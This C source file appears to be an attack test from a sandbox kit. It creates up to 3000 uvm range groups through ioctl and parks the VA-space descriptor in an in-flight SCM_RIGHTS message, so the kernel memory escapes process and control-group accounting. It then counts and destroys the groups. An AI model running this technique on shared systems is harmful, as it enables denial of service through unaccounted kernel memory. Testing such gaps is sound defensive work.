/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Range groups of a VA space that the gate has let go of, since no table of a process has its descriptor: it is in a
 * socket, sent and not received, to somebody outside. One space after the other could keep as many: kernel memory that
 * no figure and no control group has.
 *
 *      attack-groups-hidden COMMAND...  runs COMMAND... with itself and `take NAME` behind it, receives the space when
 *                                       that has ended, and counts its groups: "took=N left=N"
 */
#include "kit.h"

#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum {
        CREATE = 23,
        DESTROY = 24,
        STATUS_AT = 8,
        N = 3000,
        ARGS_MAX = 32,
};

union control {
        struct cmsghdr align;
        char bytes[CMSG_SPACE(sizeof(int))];
};

static bool group_call(int uvm, unsigned long number, uint64_t *id)
{
        unsigned char block[16] = { 0 };

        kit_put64(block, 0, *id);
        kit_put32(block, STATUS_AT, 0xffffffffu);
        if (kit_ioctl(uvm, number, block) != 0 || kit_get32(block, STATUS_AT) != 0)
                return false;
        *id = kit_get32(block, 0) | (uint64_t)kit_get32(block, 4) << 32;
        return true;
}

static socklen_t name_line(struct sockaddr_un *address, const char *name)
{
        *address = (struct sockaddr_un){ .sun_family = AF_UNIX };
        (void)snprintf(address->sun_path + 1, sizeof(address->sun_path) - 1, "%s", name);
        return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
}

/* The first and the last number, and the space behind them. It stays for long enough to be looked for. */
static int take(const char *name)
{
        uint64_t ids[2] = { 0 }, id = 0;
        union control control = { .align = { CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS } };
        struct iovec text = { ids, sizeof(ids) };
        struct msghdr message = {
                .msg_iov = &text, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control)
        };
        int line = socket(AF_UNIX, SOCK_SEQPACKET, 0), uvm;
        struct sockaddr_un address;
        socklen_t size = name_line(&address, name);

        kit_start();
        uvm = kit_uvm();
        for (int i = 0; i < N && group_call(uvm, CREATE, &id); i++) {
                ids[0] = ids[0] ? ids[0] : id;
                ids[1] = id;
        }
        memcpy(CMSG_DATA(&control.align), &uvm, sizeof(uvm));
        if (connect(line, (struct sockaddr *)&address, size) < 0 || sendmsg(line, &message, 0) < 0)
                kit_cannot("nobody is there to send the space to");
        _exit(0); /* with it all that shows the descriptor */
}

static void count_left(int listener)
{
        uint64_t ids[2];
        union control control = { 0 };
        struct iovec text = { ids, sizeof(ids) };
        struct msghdr message = {
                .msg_iov = &text, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control)
        };
        int peer = accept(listener, NULL, NULL), uvm;
        unsigned int n = 0;

        if (peer < 0 || recvmsg(peer, &message, 0) <= 0 || !CMSG_FIRSTHDR(&message))
                kit_cannot("no space came");
        memcpy(&uvm, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(uvm));
        for (uint64_t id = ids[0]; id <= ids[1]; id++) {
                uint64_t one = id;

                n += group_call(uvm, DESTROY, &one);
        }
        printf("took=%llu left=%u\n", (unsigned long long)(ids[1] - ids[0] + 1), n);
}

int main(int argc, char **argv)
{
        char name[32], word[] = "take", *args[ARGS_MAX + 4];
        int listener = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0), status, n = argc - 1;
        struct sockaddr_un address;
        socklen_t size;

        if (argc == 3 && !strcmp(argv[1], "take"))
                return take(argv[2]);
        (void)snprintf(name, sizeof(name), "sublet-groups-%d", getpid());
        size = name_line(&address, name);
        if (n < 1 || n > ARGS_MAX || bind(listener, (struct sockaddr *)&address, size) < 0 || listen(listener, 1) < 0)
                kit_cannot("no socket, or no command");
        memcpy(args, argv + 1, (size_t)n * sizeof(*args));
        memcpy(args + n, (char *[]){ argv[0], word, name, NULL }, 4 * sizeof(*args));
        if (fork() == 0) {
                (void)execvp(args[0], args);
                _exit(127);
        }
        (void)wait(&status);
        (void)sleep(1); /* its gate settles */
        count_left(listener);
        return 0;
}
